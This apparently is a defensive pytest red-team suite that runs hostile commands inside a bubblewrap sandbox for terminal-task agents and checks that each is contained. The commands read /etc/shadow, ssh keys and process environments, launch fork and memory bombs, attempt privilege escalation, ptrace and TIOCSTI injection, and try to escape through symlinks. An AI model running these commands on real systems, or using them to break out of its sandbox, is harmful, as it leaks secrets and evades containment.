"""Red team: hostile commands run through the real bwrap Session; each must stay contained.

One test per attempt, grouped by what the attacker wants (secrets, writes outside /app, network,
resources, privileges, other processes, the host side of the session). A passing test means the
attempt was contained; docs/SECURITY.md is generated from a run of this file
(``TERMCORPUS_SECURITY_REPORT=docs/SECURITY-table.md pytest tests/security``).

Limits are kept small (32 processes, 256 MiB, 16 MiB tmpfs, 8 MiB files, 5 s) so that the bombs
end fast and cannot hurt the shared host.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import secrets
import shutil
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from termcorpus.errors import DataError
from termcorpus.sandbox import open_session, prepare_workdir
from termcorpus.sandbox.procs import pids_of_uid

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bwrap not installed"),
]

AS_ROOT = os.geteuid() == 0


def attempt(category: str, what: str):
    """Tag a test as one red-team attempt (read by conftest for the SECURITY.md table)."""

    def deco(fn):
        fn.redteam = (category, what)
        return fn

    return deco


@pytest.fixture
def session(task, config):
    with open_session(task, config) as s:
        yield s


@contextlib.contextmanager
def _deadline(seconds: int):
    """Turn a hang (a regression: a blocking open of a FIFO) into a test failure."""

    def expired(signum, frame):
        raise TimeoutError(f"still blocked after {seconds} s")

    old = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def _host_cmdlines() -> dict[int, str]:
    out = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                out[int(name)] = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode(
                    "utf-8", "replace")
            except OSError:
                pass
    return out


# ---- read host secrets ---------------------------------------------------------------------


@attempt("read host secrets", "list and read /root (root's home, dotfiles)")
def test_read_root_home(session):
    r = session.run("ls -la /root; cat /root/.bashrc /root/.profile")
    assert r.exit_code != 0
    assert r.output.count("No such file or directory") == 3


@attempt("read host secrets", "read /etc/shadow and /etc/gshadow")
def test_read_etc_shadow(session):
    r = session.run("cat /etc/shadow /etc/gshadow; grep -h '^root:' /etc/shadow /etc/passwd")
    assert "No such file or directory" in r.output
    # /etc/passwd inside is the sandbox's own three-line file, without hashes.
    assert "root:x:0:0:root:/root:/bin/bash" in r.output
    assert "$6$" not in r.output and "$y$" not in r.output


@attempt("read host secrets", "a secret env var of the parent in `env`, `set`, `export -p`")
def test_parent_env_secret_not_in_env(task, config, monkeypatch):
    value = "s3cret-" + secrets.token_hex(8)
    monkeypatch.setenv("TERMCORPUS_REDTEAM_TOKEN", value)
    with open_session(task, config) as s:
        r = s.run("env; set; export -p")
    assert value not in r.output and "TERMCORPUS_REDTEAM_TOKEN" not in r.output
    assert "PATH=" in r.output


@attempt("read host secrets", "/proc/1/environ and every /proc/*/environ inside")
def test_parent_env_secret_not_in_proc_environ(task, config, monkeypatch):
    value = "s3cret-" + secrets.token_hex(8)
    monkeypatch.setenv("TERMCORPUS_REDTEAM_TOKEN", value)
    with open_session(task, config) as s:
        r = s.run("for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; cat /proc/1/environ")
    assert value not in r.output


@attempt("read host secrets", "the test process's own /proc/<host pid>/environ and cmdline")
def test_host_pid_environ(task, config, monkeypatch):
    value = "s3cret-" + secrets.token_hex(8)
    monkeypatch.setenv("TERMCORPUS_REDTEAM_TOKEN", value)
    me = os.getpid()
    with open_session(task, config) as s:
        r = s.run(f"cat /proc/{me}/environ /proc/{me}/cmdline; ls /proc/{me}/root/")
    assert value not in r.output
    assert "pytest" not in r.output
    assert r.output.count("No such file or directory") == 3


@attempt("read host secrets", "the repo, /work, /home and the host's data")
def test_repo_and_home_invisible(session):
    r = session.run("ls /work; ls -A /home; cat /work/main/params.yaml; ls -a /work/main/.git")
    assert "teacher:" not in r.output and "HEAD" not in r.output
    assert r.output.count("No such file or directory") == 3
    assert r.output.split("\n")[1] == "agent"  # /home holds only the sandbox's own home


@attempt("read host secrets", "ssh keys: /etc/ssh, ~/.ssh, /root/.ssh")
def test_ssh_keys_invisible(session):
    r = session.run("ls /etc/ssh ~/.ssh /root/.ssh; cat /etc/ssh/ssh_host_*_key")
    assert "PRIVATE KEY" not in r.output
    assert r.output.count("No such file or directory") == 4


@attempt("read host secrets", "a secret file the host put in its /tmp")
def test_host_tmp_invisible(session):
    name = f"termcorpus-redteam-secret-{secrets.token_hex(6)}"
    value = secrets.token_hex(16)
    host = Path("/tmp") / name
    host.write_text(value)
    os.chmod(host, 0o644)  # even world-readable: /tmp inside is a fresh tmpfs
    try:
        r = session.run(f"cat /tmp/{name}; ls -a /tmp; ls /tmp/termcorpus-sbx-* 2>&1 | head -3")
    finally:
        host.unlink()
    assert value not in r.output
    assert name not in r.output.replace(f"cat: /tmp/{name}", "")
    assert "termcorpus-sbx-" not in r.output.replace("ls: cannot access '/tmp/termcorpus-sbx-*'", "")


# ---- write outside the task dir ------------------------------------------------------------


@attempt("write outside /app", "drop a marker into the host's /tmp")
def test_write_host_tmp_marker(session):
    name = f"termcorpus-redteam-marker-{secrets.token_hex(6)}"
    r = session.run(f"echo pwned > /tmp/{name} && cat /tmp/{name}")
    assert r.output == "pwned\n"  # the sandbox's own tmpfs
    assert not (Path("/tmp") / name).exists()


@attempt("write outside /app", "modify /usr (a binary, a new file)")
def test_write_usr(session):
    before = Path("/usr/bin/env").read_bytes()
    r = session.run("touch /usr/pwned; echo x >> /usr/bin/env; cp /bin/sh /usr/local/bin/pwned")
    assert r.output.count("Read-only file system") + r.output.count("Permission denied") == 3
    assert not Path("/usr/pwned").exists() and not Path("/usr/local/bin/pwned").exists()
    assert Path("/usr/bin/env").read_bytes() == before


@attempt("write outside /app", "modify /etc (passwd, a new file, ld.so.cache)")
def test_write_etc(session):
    before = Path("/etc/passwd").read_bytes()
    r = session.run("echo 'x::0:0::/:/bin/sh' >> /etc/passwd; touch /etc/pwned; : > /etc/ld.so.cache")
    assert r.output.count("Read-only file system") + r.output.count("Permission denied") == 3
    assert Path("/etc/passwd").read_bytes() == before
    assert not Path("/etc/pwned").exists()
    assert Path("/etc/ld.so.cache").stat().st_size > 0


@attempt("write outside /app", "write at / and via /app/../")
def test_write_root_and_dotdot(session):
    r = session.run("touch /pwned; touch /app/../pwned2; mkdir /app/../newdir")
    assert r.output.count("Read-only file system") == 3
    assert not Path("/pwned").exists() and not Path("/pwned2").exists()


@attempt("write outside /app", "fill /dev and /dev/shm (a tmpfs sized by the host's RAM)")
def test_write_dev_and_fill_dev_shm(session, config):
    r = session.run("echo x > /dev/pwned; for i in 1 2 3 4; do dd if=/dev/zero of=/dev/shm/f$i bs=1M count=8 "
                    "2>/dev/null; done; du -sm /dev/shm | cut -f1; echo ok > /dev/null && echo null-ok")
    assert "Read-only file system" in r.output
    used_mb = int(r.output.split("\n")[-3])
    assert used_mb <= config.tmp_mb
    assert r.output.endswith("null-ok\n")


@attempt("write outside /app", "write the host's kernel settings under /proc/sys")
def test_write_proc_sys(session):
    # Writing the current value back: harmless even if the write went through.
    pattern = Path("/proc/sys/kernel/core_pattern").read_text().strip()
    hostname = Path("/proc/sys/kernel/hostname").read_text().strip()
    r = session.run(f"echo '{pattern}' > /proc/sys/kernel/core_pattern; echo ok-core; "
                    f"echo '{hostname}' > /proc/sys/kernel/hostname; echo ok-host")
    assert r.output.count("Read-only file system") + r.output.count("Permission denied") >= 2
    assert Path("/proc/sys/kernel/core_pattern").read_text().strip() == pattern


# ---- symlinks and paths --------------------------------------------------------------------


@attempt("symlinks and ../ paths", "task file paths with ../, absolute, NUL, backslashes")
def test_task_paths_with_dotdot_are_rejected(task):
    from pydantic import ValidationError

    from termcorpus.records import Task

    for bad in ("../escape", "/etc/cron.d/x", "a/../../escape", "a\\..\\..\\escape", "a\x00b", ""):
        for field in ("files", "tests", "binary_files"):
            data = task.model_dump()
            data[field] = {**data[field], bad: "eA=="}
            with pytest.raises(ValidationError, match="unsafe path"):
                Task.model_validate(data)


@attempt("symlinks and ../ paths", "a task file written through another task file ('a' and 'a/b')")
def test_task_file_through_another_file(task, config):
    bad = task.model_copy(update={"files": {"a": "x", "a/b": "y"}})
    with pytest.raises(DataError, match="cannot be written"):
        open_session(bad, config)


@attempt("symlinks and ../ paths", "symlink in /app to a host file, then the verifier chowns /app")
def test_symlink_survives_chown_of_workdir(task, config, episode_dir):
    victim = episode_dir / "host-secret"
    victim.write_text("root only\n")
    os.chmod(victim, 0o600)
    before = victim.stat()
    wd = prepare_workdir(task, episode_dir)
    with open_session(task, config, workdir=wd) as agent:
        agent.run(f"ln -s {victim} link; ln -s / rootlink; mkdir d; ln -s {episode_dir} d/up")
    with open_session(task, config, workdir=wd, tests_dir=True) as verifier:
        r = verifier.run(f"cat link rootlink/etc/shadow; cat {victim}")
    after = victim.stat()
    assert (after.st_uid, after.st_gid, after.st_mode) == (before.st_uid, before.st_gid, before.st_mode)
    assert "root only" not in r.output


@attempt("symlinks and ../ paths", "host-side put_file/get_file through a symlink the agent made")
def test_put_and_get_file_refuse_agent_symlinks(session, episode_dir):
    target = episode_dir / "host-target"
    target.write_text("host\n")
    session.run(f"ln -s {episode_dir} out; ln -s / root; ln -s {target} file")
    for rel in ("out/host-target", "root/etc/hostname", "file"):
        with pytest.raises(DataError):
            session.get_file(rel)
    for rel in ("out/pwned", "root/tmp/pwned", "file"):
        with pytest.raises(DataError):
            session.put_file(rel, "pwned\n")
    assert target.read_text() == "host\n" and not (episode_dir / "pwned").exists()
    with pytest.raises(DataError):
        session.put_file("../pwned", "x")


@attempt("symlinks and ../ paths", "a FIFO where the host reads a file (get_file would block forever)")
def test_get_file_on_fifo_does_not_hang(session):
    session.run("mkfifo pipe")
    start = time.monotonic()
    with _deadline(10), pytest.raises(DataError, match="not a regular file"):
        session.get_file("pipe")
    assert time.monotonic() - start < 2


@attempt("symlinks and ../ paths", "the verifier's reward file as a symlink to /etc/shadow, a FIFO, a directory")
def test_verifier_reward_file_tricks(task, config, episode_dir):
    from termcorpus.execute.verifier import run_verifier

    for i, trick in enumerate(("ln -s /etc/shadow /logs/verifier/reward.txt",
                               "mkfifo /logs/verifier/reward.txt",
                               "mkdir /logs/verifier/reward.txt",
                               "ln -s /etc/hostname /logs/verifier/reward.json")):
        t = task.model_copy(update={"tests": {"test.sh": f"#!/bin/bash\n{trick}\nexit 1\n"}})
        parent = episode_dir / str(i)
        parent.mkdir()
        start = time.monotonic()
        with _deadline(30):
            v = run_verifier(t, config, prepare_workdir(t, parent))
        assert time.monotonic() - start < config.timeout_sec
        assert v.reward == 0.0 and not v.passed  # from the exit code, never from a host file


@attempt("symlinks and ../ paths", "a hard link from /app to a file outside it")
def test_hard_link_out_of_app(session):
    r = session.run("ln /etc/passwd hl; ln /usr/bin/env hl2; ls")
    assert "hl" not in r.output.split("\n")[-2].split()
    assert r.output.count("Invalid cross-device link") == 2


def _harbor_dir(root: Path) -> Path:
    """A valid Harbor task dir (imports cleanly) next to a host file it must never reach."""
    (root / "outside.txt").write_text("host secret\n")
    d = root / "task"
    for sub in ("tests", "solution", "environment/files"):
        (d / sub).mkdir(parents=True)
    (d / "instruction.md").write_text("Copy in.txt to out.txt.\n")
    (d / "task.toml").write_text('schema_version = "1.4"\n[metadata]\ncategory = "security"\n')
    (d / "solution/solve.sh").write_text("#!/bin/bash\ncp in.txt out.txt\n")
    (d / "tests/test.sh").write_text("#!/bin/bash\ncmp -s /app/in.txt /app/out.txt\n")
    (d / "environment/files/in.txt").write_text("data\n")
    (d / "environment/Dockerfile").write_text("FROM debian:bookworm\nWORKDIR /app\nCOPY files/ /app/\n")
    return d


def _dockerfile(extra: str):
    def apply(d: Path) -> None:
        with (d / "environment/Dockerfile").open("a") as fh:
            fh.write(extra + "\n")
    return apply


_ARCHIVE_TRICKS = {
    "tests_symlink_to_host_file": lambda d: (d / "tests/leak.txt").symlink_to(d.parent / "outside.txt"),
    "input_symlink_to_etc_shadow": lambda d: (d / "environment/files/shadow").symlink_to("/etc/shadow"),
    "tests_dir_is_symlink_out": lambda d: (shutil.rmtree(d / "tests"), (d / "tests").symlink_to(d.parent)),
    "copy_from_parent_dir": _dockerfile("COPY ../outside.txt /app/x"),
    "copy_from_absolute_path": _dockerfile("COPY /etc/shadow /app/x"),
    "copy_to_dotdot_target": _dockerfile("COPY files/in.txt /app/../../etc/cron.d/x"),
    "workdir_with_dotdot": _dockerfile("WORKDIR /app/../../root"),
    "add_from_url": _dockerfile("ADD http://example.com/x.sh /app/x.sh"),
}


@attempt("symlinks and ../ paths", "imported task dirs: symlinks out, COPY ../ or /abs, '..' targets, ADD URL")
@pytest.mark.parametrize("trick", sorted(_ARCHIVE_TRICKS))
def test_interop_import_rejects_escaping_paths(trick, episode_dir):
    from termcorpus.tasks import interop
    d = _harbor_dir(episode_dir)
    interop.import_task_dir(d)  # the clean directory imports
    _ARCHIVE_TRICKS[trick](d)
    with pytest.raises(DataError) as err:
        interop.import_task_dir(d)
    assert "host secret" not in str(err.value)


# ---- network -------------------------------------------------------------------------------


@attempt("reach the network", "a TCP port the host listens on at 127.0.0.1")
def test_host_loopback_port(session):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(3)
    port = srv.getsockname()[1]
    got = []

    def accept():
        try:
            got.append(srv.accept())
        except OSError:
            pass

    th = threading.Thread(target=accept)
    th.start()
    try:
        r = session.run(f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=2)'; "
                        f"echo > /dev/tcp/127.0.0.1/{port}")
    finally:
        th.join()
        srv.close()
    assert not got
    assert "ConnectionRefusedError" in r.output and "/dev/tcp/127.0.0.1" in r.output


@attempt("reach the network", "DNS lookups (resolver, getent, python)")
def test_dns_lookup(session):
    r = session.run("getent hosts pypi.org; echo rc=$?; "
                    "python3 -c 'import socket; print(socket.getaddrinfo(\"pypi.org\", 443))'")
    assert "rc=2" in r.output
    assert "gaierror" in r.output
    assert "AddressFamily" not in r.output


@attempt("reach the network", "outside addresses: 1.1.1.1, the default gateway, IPv6")
def test_outside_addresses(session):
    r = session.run(
        "python3 - <<'PY'\n"
        "import socket\n"
        "for fam, addr in ((socket.AF_INET, ('1.1.1.1', 80)), (socket.AF_INET, ('10.0.2.2', 80)),\n"
        "                  (socket.AF_INET6, ('2606:4700:4700::1111', 80))):\n"
        "    s = socket.socket(fam)\n"
        "    s.settimeout(2)\n"
        "    try:\n"
        "        s.connect(addr); print('CONNECTED', addr)\n"
        "    except OSError as e:\n"
        "        print('blocked', e.errno)\n"
        "PY\n"
        "cat /proc/net/dev | tail -n +3 | cut -d: -f1"
    )
    assert "CONNECTED" not in r.output
    assert r.output.count("blocked") == 3
    assert r.output.split()[-1] == "lo"


@attempt("reach the network", "a Unix socket on the host (test-made socket, docker.sock)")
def test_host_unix_socket(session):
    path = Path("/tmp") / f"termcorpus-redteam-{secrets.token_hex(6)}.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    os.chmod(path, 0o777)
    srv.listen(1)
    srv.setblocking(False)
    try:
        r = session.run(
            "python3 - <<'PY'\n"
            "import socket\n"
            f"for p in ('{path}', '/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(p); print('CONNECTED', p)\n"
            "    except OSError as e:\n"
            "        print('blocked', e.strerror)\n"
            "PY"
        )
        with pytest.raises(BlockingIOError):
            srv.accept()
    finally:
        srv.close()
        path.unlink()
    assert "CONNECTED" not in r.output
    assert r.output.count("blocked") == 4


@attempt("reach the network", "an abstract Unix socket of the host (bound to its net namespace)")
def test_host_abstract_unix_socket(session):
    name = f"termcorpus-redteam-{secrets.token_hex(6)}"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind("\0" + name)
    srv.listen(1)
    srv.setblocking(False)
    try:
        r = session.run(
            "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
            f"s.connect(\"\\0{name}\"); print(\"CONNECTED\")'"
        )
        with pytest.raises(BlockingIOError):
            srv.accept()
    finally:
        srv.close()
    assert "CONNECTED" not in r.output
    assert "ConnectionRefusedError" in r.output


# ---- exhaust resources ---------------------------------------------------------------------


@attempt("exhaust resources", "fork bomb `:(){ :|:& };:` (bounded by the process limit)")
def test_fork_bomb(task, config):
    cfg = dataclasses.replace(config, max_procs=16, timeout_sec=3.0)
    with open_session(task, cfg) as s:
        uid = s.host_uid
        start = time.monotonic()
        r = s.run(":(){ :|:& };:")
        peak = len(pids_of_uid(uid)) if AS_ROOT else 0
        assert time.monotonic() - start < cfg.timeout_sec + 5
        # The bomb lives on in the background (as `cmd &` may), bounded by the limit...
        time.sleep(1.0)
        peak = max(peak, len(pids_of_uid(uid)) if AS_ROOT else 0)
        # ...and the session still answers (its output may carry the bomb's "fork: retry").
        alive = s.run("echo still-here")
        assert alive.exit_code == 0 and "still-here\n" in alive.output
    assert r.timed_out or r.exit_code is not None
    assert peak <= cfg.max_procs
    if AS_ROOT:
        assert pids_of_uid(uid, live_only=True) == []


@attempt("exhaust resources", "memory bomb: a python allocation above memory_mb")
def test_memory_bomb(session, config):
    r = session.run(f"python3 -c 'b = bytearray({config.memory_mb * 2} * 1024**2); print(\"allocated\")'")
    assert "MemoryError" in r.output and "allocated" not in r.output


@attempt("exhaust resources", "fill /tmp and /home/agent (tmpfs capped at tmp_mb)")
def test_fill_tmpfs(session, config):
    r = session.run("dd if=/dev/zero of=/tmp/fill bs=1M count=64; dd if=/dev/zero of=~/fill bs=1M count=64; "
                    "du -sm /tmp/fill ~/fill | cut -f1")
    assert r.output.count("No space left on device") >= 2 or r.output.count("File size limit exceeded") >= 2
    for size in r.output.split()[-2:]:
        assert int(size) <= config.tmp_mb


@attempt("exhaust resources", "one huge file in /app (host disk; RLIMIT_FSIZE = max_file_mb)")
def test_fill_app_with_one_file(session, config):
    r = session.run("dd if=/dev/zero of=big bs=1M count=64 2>&1; stat -c %s big")
    assert "File size limit exceeded" in r.output
    assert int(r.output.split()[-1]) <= config.max_file_mb << 20
    assert (session.app_dir / "big").stat().st_size <= config.max_file_mb << 20


@attempt("exhaust resources", "endless output (`yes`), capped with a marker")
def test_endless_output(session, config):
    r = session.run("yes pwned", timeout_sec=1.0)
    assert r.timed_out and r.truncated
    assert len(r.output.encode()) <= config.max_output_bytes + 100
    assert "output truncated" in r.output


@attempt("exhaust resources", "sleep far past the command timeout")
def test_sleep_past_timeout(session):
    start = time.monotonic()
    r = session.run("sleep 600", timeout_sec=0.5)
    assert r.timed_out and r.exit_code is None
    assert time.monotonic() - start < 3
    assert session.run("echo ok").output == "ok\n"


@attempt("exhaust resources", "a busy loop inside the shell itself (no child process to kill)")
def test_busy_loop_in_shell(session):
    start = time.monotonic()
    r = session.run("while :; do :; done", timeout_sec=0.5)
    assert r.timed_out
    assert time.monotonic() - start < 4
    assert session.run("echo ok").output == "ok\n"


@attempt("exhaust resources", "daemons that outlive the task (nohup, setsid, double fork, disown)")
def test_background_processes_do_not_outlive_close(task, config):
    mark = f"redteam{secrets.token_hex(6)}"
    s = open_session(task, config)
    uid = s.host_uid
    s.run(
        f"nohup python3 -c 'import time; time.sleep(300)' {mark}-a >/dev/null 2>&1 & "
        f"setsid python3 -c 'import time; time.sleep(300)' {mark}-b >/dev/null 2>&1 & "
        f"( ( python3 -c 'import time; time.sleep(300)' {mark}-c & ) & ) ; "
        f"python3 -c 'import time; time.sleep(300)' {mark}-d >/dev/null 2>&1 & disown -a; "
        "python3 -c 'import os, time\nif os.fork() == 0:\n os.setsid()\n if os.fork() == 0:\n  time.sleep(300)\n' "
        f"{mark}-e"
    )
    deadline = time.monotonic() + 20  # they did start (python3 starts slowly on a loaded CI box)
    while len(running := [c for c in _host_cmdlines().values() if mark in c]) < 4:
        assert time.monotonic() < deadline, running
        time.sleep(0.05)
    s.close()
    left = [(pid, c) for pid, c in _host_cmdlines().items() if mark in c]
    assert left == []
    if AS_ROOT:
        assert pids_of_uid(uid, live_only=True) == []


# ---- gain privileges -----------------------------------------------------------------------


@attempt("gain privileges", "setuid binaries: su, passwd, mount, newgrp")
def test_setuid_binaries(session):
    r = session.run("su root -c 'id -u' </dev/null; passwd -S root; mount -t tmpfs none /app; newgrp root </dev/null; "
                    "grep NoNewPrivs /proc/self/status; grep ' /usr ' /proc/self/mounts; id -u")
    lines = r.output.strip().split("\n")
    assert lines[-1] == "1000"
    assert "NoNewPrivs:\t1" in r.output
    assert "nosuid" in [ln for ln in lines if " /usr " in ln][0]
    assert "\n0\n" not in f"\n{r.output}"


@attempt("gain privileges", "setuid(0) / setgid(0) from python, and capabilities")
def test_setuid_syscall(session):
    r = session.run("python3 -c 'import os\nfor f in (os.setuid, os.setgid, os.seteuid):\n"
                    "    try: f(0); print(\"ROOT\")\n    except OSError: print(\"denied\")'; "
                    "grep CapEff /proc/self/status")
    assert "ROOT" not in r.output and r.output.count("denied") == 3
    assert "CapEff:\t0000000000000000" in r.output


@attempt("gain privileges", "a new user namespace (to become root inside it)")
def test_new_user_namespace(session):
    r = session.run("unshare -Ur id -u; unshare -r -n true; echo done")
    assert "\n0\n" not in f"\n{r.output}"
    assert r.output.count("unshare failed") == 2


@attempt("gain privileges", "mount, chroot, dmesg, kernel modules")
def test_privileged_syscalls(session):
    r = session.run("mount -t proc proc /tmp; chroot / true; dmesg; insmod /nonexistent.ko; "
                    "python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(165, 0, 0, 0, 0, 0))'")
    assert "must be superuser" in r.output
    assert "chroot: cannot change root directory" in r.output
    assert "read kernel buffer failed" in r.output
    assert r.output.strip().split("\n")[-1] == "-1"  # mount(2) refused


# ---- other processes -----------------------------------------------------------------------


@attempt("other processes", "ptrace the test process and another host process (host pids)")
def test_ptrace_host_processes(session):
    me = os.getpid()
    # Another host process of our own, not os.getppid(): a test run whose parent has exited is
    # reparented to pid 1, and pid 1 inside the sandbox is the sandbox's own init, not the host's.
    other = subprocess.Popen(["sleep", "60"])
    try:
        r = session.run("python3 -c 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        f"for pid in ({me}, {other.pid}):\n"
                        "    print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))'")
        lines = r.output.strip().split("\n")
        assert len(lines) == 2
        for ln in lines:
            assert ln.split()[1] == "-1", ln  # ESRCH: not in this pid namespace
        for pid in (me, other.pid):
            assert "TracerPid:\t0" in Path(f"/proc/{pid}/status").read_text()
    finally:
        other.kill()
        other.wait()


@attempt("other processes", "kill -9 the parent / the test's pid / -1 from inside")
def test_signals_to_parent(task, config):
    host = subprocess.Popen(["sleep", "30"])
    try:
        with open_session(task, config) as s:
            r = s.run(f"kill -9 {os.getpid()}; kill -9 {host.pid}; kill -9 1; "
                      "python3 -c 'import os, signal; os.kill(-1, signal.SIGKILL)'; kill -9 $PPID")
            after = s.run("echo alive")
        assert host.poll() is None  # a host process of another uid: untouched
        assert after.output == "alive\n"  # the session restarts its own shell
        assert "No such process" in r.output
    finally:
        host.kill()
        host.wait()


@attempt("other processes", "/proc snooping: host processes and their command lines")
def test_proc_snooping(session):
    r = session.run("ls /proc | grep -c '^[0-9]*$'; ps -eo pid=,comm=")
    lines = r.output.strip().split("\n")
    assert int(lines[0]) <= 6  # bwrap's init, the shell, this command and its pipe
    seen = {ln.split()[1] for ln in lines[1:]}
    assert seen <= {"bwrap", "bash", "ps"}, seen
    assert str(os.getpid()) not in [ln.split()[0] for ln in lines[1:]]


@attempt("other processes", "/sys snooping: cgroups, devices, host network interfaces")
def test_sys_snooping(session):
    r = session.run("ls /sys /sys/fs/cgroup /sys/class/net; cat /sys/kernel/hostname")
    assert r.output.count("No such file or directory") == 4


@attempt("other processes", "TIOCSTI: push keystrokes into the caller's terminal")
def test_tiocsti(session):
    r = session.run("python3 -c 'import fcntl, termios, os\nfor dev in (0, 1, 2):\n"
                    "    try:\n        fcntl.ioctl(dev, termios.TIOCSTI, b\"x\"); print(\"INJECTED\")\n"
                    "    except OSError as e: print(\"refused\", e.errno)\n"
                    "try:\n    os.open(\"/dev/tty\", os.O_RDWR); print(\"TTY\")\nexcept OSError: print(\"no tty\")'")
    assert "INJECTED" not in r.output and "TTY" not in r.output
    assert r.output.count("refused") == 3


# ---- the session's own channel -------------------------------------------------------------


@attempt("session channel", "forge the end-of-command status line via /proc/<shell>/fd")
def test_forge_status_line(session):
    # The first command of a session is seq 2; write '2 7 /forged' to every fd of the shell.
    r = session.run("for f in /proc/$$/fd/*; do printf '2 7 /forged\\n' 2>/dev/null > $f; done; "
                    "printf '2 garbage\\n' > /proc/$$/fd/11 2>/dev/null; sleep 0.2; true")
    after = session.run("pwd")
    assert after.output.endswith("/app\n")
    if AS_ROOT:  # the pipes belong to the host's root: the command cannot reopen them
        assert r.exit_code == 0 and session.cwd == "/app"


@attempt("session channel", "steal the next command from the shell's stdin via /proc/1/fd/0")
def test_steal_next_command(session):
    r = session.run("cat /proc/1/fd/0 > stolen 2>&1 & cat /proc/$$/fd/10 >> stolen 2>&1 & sleep 0.2")
    assert not r.timed_out
    nxt = session.run("echo second")
    assert nxt.output == "second\n"
    if AS_ROOT:
        assert "Permission denied" in session.get_file("stolen").decode()
